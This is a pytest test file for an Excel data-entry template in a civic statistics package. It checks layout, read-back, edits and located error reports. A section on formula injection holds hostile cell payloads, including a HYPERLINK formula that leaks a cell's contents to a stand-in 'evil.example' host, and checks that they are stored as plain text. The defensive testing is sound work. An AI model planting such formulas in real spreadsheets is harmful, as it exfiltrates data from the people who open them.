"""The data-entry workbook: written, checked, edited the way a person would, read back."""

from __future__ import annotations

import hashlib
import warnings
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

import civicstats as cs
from civicstats import workbook
from civicstats.check import check
from civicstats.cli import main
from civicstats.errors import DataError
from civicstats.readers.responses import RESPONSES_COLUMNS
from civicstats.schema import spec
from civicstats.workbook import (
    TEMPLATE_TABLES,
    safe_cell_value,
    write_cell,
    write_template,
)


@pytest.fixture(scope="module")
def template(tmp_path_factory) -> Path:
    """The template, written once; tests that edit it work on a copy."""
    return write_template(tmp_path_factory.mktemp("template") / "civicstats-data.xlsx")


@pytest.fixture
def copy(template: Path, tmp_path: Path) -> Path:
    target = tmp_path / "book.xlsx"
    target.write_bytes(template.read_bytes())
    return target


def checked(path: Path):
    before = hashlib.sha256(path.read_bytes()).hexdigest()
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # the template itself raises no warning
        report = check(path)
    assert hashlib.sha256(path.read_bytes()).hexdigest() == before  # never written
    return report


# --------------------------------------------------------------------------
# round trip


def test_the_template_checks_ok_with_the_shipped_row_counts(template: Path):
    report = checked(template)
    assert report.ok, report.problem_lines()
    assert report.tables == {name: len(cs.load(name)) for name in TEMPLATE_TABLES}


@pytest.mark.parametrize("name", TEMPLATE_TABLES)
def test_each_sheet_reads_back_as_the_shipped_table(template: Path, name: str):
    pd.testing.assert_frame_equal(cs.load(name, template), cs.load(name))


def test_layout(template: Path):
    wb = openpyxl.load_workbook(template)
    assert wb.sheetnames[0] == "README"
    assert set(wb.sheetnames) == {"README", "responses", *TEMPLATE_TABLES}
    readme = "\n".join(str(c.value) for row in wb["README"].iter_rows() for c in row if c.value)
    for words in ("Row 1 holds the column names", "La ligne 1 contient", "sources sheet", "feuille sources",
                  f"civicstats check {template.name}", f"civicstats build --data {template.name} --out reports-new"):
        assert words in readme
    for name in TEMPLATE_TABLES:
        ws = wb[name]
        fields = spec(name).fields
        assert [c.value for c in ws[1]] == [f.name for f in fields]
        assert ws.freeze_panes == "A2" and all(c.font.b for c in ws[1])
        assert all(c.comment is not None and f.name in c.comment.text for c, f in zip(ws[1], fields))
        assert ws.max_row == len(cs.load(name)) + 1  # row 2 on is data, no notes row
        for j, f in enumerate(fields, start=1):
            expected = {"integer": "0", "year": "0", "number": "0.0"}.get(f.type, "@")
            assert ws.cell(row=2, column=j).number_format == expected, (name, f.name)
        lists = {str(dv.sqref).split(":")[0]: dv for dv in ws.data_validations.dataValidation}
        for j, f in enumerate(fields, start=1):
            letter = openpyxl.utils.get_column_letter(j)
            if f.name == "source":
                dv = lists[f"{letter}2"]
                assert dv.formula1.startswith("sources!$A$2:$A$") and not dv.showErrorMessage
            elif f.enum:
                assert lists[f"{letter}2"].formula1 == '"' + ",".join(f.enum) + '"'
    counts = wb["civictech_adoption"]
    assert counts["C2"].data_type == "n" and isinstance(counts["C2"].value, int)
    assert counts["A2"].value == "2018"
    assert any(isinstance(c.value, int) for c in counts["D"][1:])  # universe: numbers, blanks empty
    assert any(c.value is None for c in counts["D"][1:])
    responses = wb["responses"]
    assert tuple(c.value for c in responses[1]) == RESPONSES_COLUMNS and responses.max_row == 1
    yes_no = [dv for dv in responses.data_validations.dataValidation if "yes" in (dv.formula1 or "")]
    assert len(yes_no) == 6 and all(dv.errorStyle == "information" for dv in yes_no)


def test_refuses_to_overwrite(template: Path, tmp_path: Path):
    with pytest.raises(FileExistsError, match="already exists"):
        write_template(template)
    target = tmp_path / "t.xlsx"
    target.write_bytes(b"old")
    assert write_template(target, overwrite=True) == target and target.read_bytes()[:2] == b"PK"
    assert [p.name for p in tmp_path.iterdir()] == ["t.xlsx"]  # no temporary file left
    with pytest.raises(ValueError, match=".xlsx extension"):
        write_template(tmp_path / "t.csv")


def test_cli_template(tmp_path: Path, capsys):
    target = tmp_path / "t.xlsx"
    assert main(["template", str(target)]) == 0
    assert f"wrote {target}" in capsys.readouterr().out
    assert main(["template", str(target)]) == 2
    assert "already exists" in capsys.readouterr().err
    assert main(["template", str(target), "--force"]) == 0
    assert main(["check", str(target)]) == 0


# --------------------------------------------------------------------------
# editing it as a person would


def test_edits_show_in_the_loaded_tables(copy: Path):
    wb = openpyxl.load_workbook(copy)
    budgets = wb["participatory_budgets"]
    row = next(r for r in budgets.iter_rows(min_row=2) if r[0].value == 2017 and r[1].value == 47)
    row[1].value = 48
    wb["sources"].append(["ENQ26", "Enquête civic tech 2026", "Observatoire", "2026-05", "https://example.org/2026"])
    wb["civictech_adoption"].append(["2026", "region", 11, None, "ENQ26", "new wave"])
    wb.save(copy)

    report = checked(copy)
    assert report.ok, report.problem_lines()
    assert report.tables["civictech_adoption"] == len(cs.load("civictech_adoption")) + 1
    adoption = cs.load("civictech_adoption", copy)
    assert adoption[adoption["as_of"] == "2026"][["level", "count", "source"]].astype(str).values.tolist() == [
        ["region", "11", "ENQ26"]]
    budgets = cs.load("participatory_budgets", copy)
    assert 48 in budgets["count"].tolist() and 47 not in budgets["count"].tolist()
    assert "ENQ26" in cs.load("sources", copy)["id"].tolist()


def test_mistakes_are_located_in_the_sheet(copy: Path):
    wb = openpyxl.load_workbook(copy)
    ws = wb["civictech_adoption"]
    ws["C3"] = "quatorze"
    ws["C4"] = "=SUM(C2:C3)"
    ws["E5"] = "NL;NOPE"
    wb.save(copy)
    report = checked(copy)
    located = {(p.sheet, p.row, p.column): p for p in report.problems}
    assert located[("civictech_adoption", 3, "count")].value == "quatorze"
    assert located[("civictech_adoption", 4, "count")].text() == "a formula where a value belongs: type the value itself"
    assert "not in the source register" in located[("civictech_adoption", 5, "source")].text()
    assert len(report.problems) == 3
    assert "civictech_adoption" not in report.tables and "sources" in report.tables


def responses_rows(*rows: dict) -> list[list]:
    blank = dict.fromkeys(RESPONSES_COLUMNS)
    return [[{**blank, **row}.get(c) for c in RESPONSES_COLUMNS] for row in rows]


def test_responses_add_a_wave_to_civictech_adoption(copy: Path):
    wb = openpyxl.load_workbook(copy)
    for row in responses_rows(
        {"as_of": "2026", "siren": "213100017", "name": "Commune A", "level": "commune", "population": 4000,
         "dialogue_concertation": "oui", "source": "NL"},
        {"as_of": "2026", "siren": "200046977", "name": "Métropole B", "level": "metropole",
         "reporting": "x", "source": "NL"},
        {"as_of": "2026", "siren": "223100017", "name": "Département C", "level": "departement",
         "open_data_portal": "yes", "source": "NL"},
    ):
        wb["responses"].append(row)
    wb.save(copy)
    report = checked(copy)
    assert report.ok, report.problem_lines()
    assert report.tables["responses"] == 3
    adoption = cs.load("civictech_adoption", copy)
    wave = adoption[adoption["as_of"] == "2026"]
    assert dict(zip(wave["level"].astype(str), wave["count"])) == {
        "departement": 0, "metropole": 1, "commune_moins_5k": 1}
    assert len(adoption) == len(cs.load("civictech_adoption")) + 3


def test_a_wave_in_both_sheets_is_a_located_duplicate(copy: Path):
    wb = openpyxl.load_workbook(copy)
    wb["responses"].append(responses_rows({"as_of": "2018", "siren": "200046977", "name": "Métropole B",
                                           "level": "metropole", "reporting": "x", "source": "NL"})[0])
    wb.save(copy)
    with pytest.raises(DataError) as info:
        cs.load("civictech_adoption", copy)
    [problem] = info.value.problems
    assert problem.file == str(copy) and "responses" in problem.sheet
    assert "duplicate key (as_of=2018, level=metropole)" in problem.text()
    assert "sheet 'civictech_adoption', row 4 has the same" in problem.text()


def test_a_formula_in_the_responses_is_located(copy: Path):
    wb = openpyxl.load_workbook(copy)
    wb["responses"].append(responses_rows({"as_of": "2026", "siren": "213100017", "name": "Commune A",
                                           "level": "commune", "population": "=2000*2", "source": "NL"})[0])
    wb.save(copy)
    report = checked(copy)
    assert [(p.sheet, p.row, p.column, p.value) for p in report.problems] == [
        ("responses", 2, "population", "=2000*2")]


# --------------------------------------------------------------------------
# cells a spreadsheet would run


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example", "click")', "+33 1 23", "-5 %", "@SUM(A1)",
                                  "\t=1+1", "\r=1+1"])
def test_formula_looking_text_is_stored_as_text(tmp_path: Path, text: str):
    text = text.replace("\r", "\n")  # as any XML reader gives it back
    assert safe_cell_value(text) == (text, True)
    path = tmp_path / "t.xlsx"
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "sources"
    for j, v in enumerate(["id", "title"], start=1):
        write_cell(ws.cell(row=1, column=j), v)
    write_cell(ws.cell(row=2, column=1), "ZZ")
    write_cell(ws.cell(row=2, column=2), text)
    wb.save(path)
    cell = openpyxl.load_workbook(path)["sources"]["B2"]
    assert cell.data_type == "s" and cell.value == text and cell.quotePrefix
    sheet_xml = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml


def test_the_template_escapes_a_source_title_starting_with_equals(tmp_path: Path, monkeypatch):
    evil = '=HYPERLINK("http://evil.example/?leak="&A1, "Open the source")'
    shipped_rows = workbook._rows

    def rows(name):
        found = shipped_rows(name)
        if name == "sources":
            found[0] = (found[0][0], evil, *found[0][2:])
        return found

    monkeypatch.setattr(workbook, "_rows", rows)
    path = write_template(tmp_path / "t.xlsx")
    cell = openpyxl.load_workbook(path)["sources"]["B2"]
    assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", evil, True)
    assert cs.load("sources", path)["title"].iloc[0] == evil


def test_mistakes_in_a_sheet_and_in_the_responses_are_all_reported(copy: Path):
    wb = openpyxl.load_workbook(copy)
    wb["civictech_adoption"]["C3"] = "quatorze"
    wb["responses"].append(responses_rows({"as_of": "2026", "siren": "2131", "name": "Commune A",
                                           "level": "commune", "population": 4000, "source": "NL"})[0])
    wb.save(copy)
    report = checked(copy)
    assert [(p.sheet, p.row, p.column) for p in report.problems] == [
        ("civictech_adoption", 3, "count"), ("responses", 2, "siren")]
